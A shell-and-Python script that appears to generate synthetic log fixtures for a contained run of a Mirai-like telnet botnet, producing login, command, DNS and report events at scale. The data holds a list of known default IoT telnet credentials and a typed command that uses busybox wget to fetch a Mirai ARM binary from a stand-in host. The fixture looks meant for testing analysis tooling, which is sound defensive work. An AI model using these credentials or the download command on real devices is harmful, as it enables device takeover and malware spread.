#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# A run's folder of many events and sessions, as a spreading bot leaves it.
# usage: large_run.sh FOLDER EVENTS SESSIONS

set -e
mkdir -p "$1"
exec python3 - "$@" <<'END'
import sys, time

folder, count, sessions = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
base, span = 1795543200, 600.0
second = [time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(base + i)) for i in range(int(span) + 2)]
typed = ('enable', 'system', 'shell', 'sh', '/bin/busybox MIRAI', 'cat /proc/mounts', '/bin/busybox wget http://172.1.0.7/bins/mirai.arm')
logins = [('root', 'vizxv'), ('admin', 'admin'), ('root', '888888'), ('support', 'support'), ('root', '54321')]

def line(i, t, kind, dest, port, proto, server, body):
    return ('{"timestamp":"%s.%06d+0000","flow_id":%d,"in_iface":"sink0-t0","event_type":"%s","src_ip":"192.168.1.100","src_port":%d,'
        '"dest_ip":"%s","dest_port":%d,"proto":"%s","server":{"name":"%s","ip":"198.18.0.23","port":%d},"contained":true,"%s":{%s}}\n' %
        (second[int(t)], t % 1 * 1e6, i, kind, 1024 + i % 60000, dest, port, proto, server, port, kind, body))

with open(folder + '/events.jsonl', 'w', buffering=1 << 20) as out:
    n = 0
    while n < count:
        for i in range(sessions):
            round_, t = n // (sessions * 10), span * n / count
            host = '%d.%d.%d.%d' % (20 + i % 100, i // 100 % 250, i % 250, 1 + i // 25000)
            k = n // sessions % 12
            if k < 4:
                user, password = logins[(i + k) % 5]
                body = '"kind":"login","session":%d,"username":"%s","password":"%s%d","success":%s,"attempt":%d' % (
                    i, user, password, i % 7, 'true' if k == 3 else 'false', k + 1)
                out.write(line(i, t, 'telnet', host, 23, 'TCP', 'telnet', body))
            elif k < 11:
                out.write(line(i, t, 'telnet', host, 23, 'TCP', 'telnet', '"kind":"command","session":%d,"command":"%s"' % (i, typed[k - 4])))
            elif i % 2:
                out.write(line(i, t, 'dns', '8.8.8.8', 53, 'UDP', 'dns', '"type":"answer","rrname":"h%d.example","rrtype":"A","rcode":"NOERROR",'
                    '"answers":[{"rrname":"h%d.example","rrtype":"A","ttl":60,"rdata":"172.1.%d.%d"}]' % (n % 30000, n % 30000, n % 250, n % 240)))
            else:
                out.write(line(i, t, 'report', '203.0.113.48', 48101, 'TCP', 'report', '"address":"%s","port":23,"username":"root","password":"%d","raw":"00"' % (host, i % 9)))
            n += 1
            if n == count:
                break
with open(folder + '/flows.jsonl', 'w', buffering=1 << 20) as out:
    for i in range(sessions * 4):
        t = span * i / (sessions * 4)
        host = '%d.%d.%d.%d' % (20 + i % 100, i // 100 % 250, i % 250, 1 + i // 25000)
        out.write('{"timestamp":"%s.000000+0000","flow_id":%d,"in_iface":"sink0-t0","event_type":"flow","src_ip":"192.168.1.100","src_port":%d,'
            '"dest_ip":"%s","dest_port":23,"proto":"TCP","server":{"name":"telnet","ip":"198.18.0.23","port":23},"contained":true,"rule_id":1,'
            '"flow":{"pkts_toserver":20,"pkts_toclient":18,"bytes_toserver":1200,"bytes_toclient":1400,"start":"%s.000000+0000",'
            '"end":"%s.500000+0000","age":0,"state":"closed","reason":"timeout"}}\n' % (second[int(t)], i, 1024 + i % 60000, host, second[int(t)], second[int(t)]))
with open(folder + '/run.json', 'w') as out:
    out.write('{"start":"%s.000000+0000","end":"%s.000000+0000","seconds":600,"bridge":"sink0","command":["bot"],"capture":null,"flows":{},"exit_status":0}\n' % (second[0], second[600]))
with open(folder + '/stats.json', 'w') as out:
    out.write('{}\n')
END
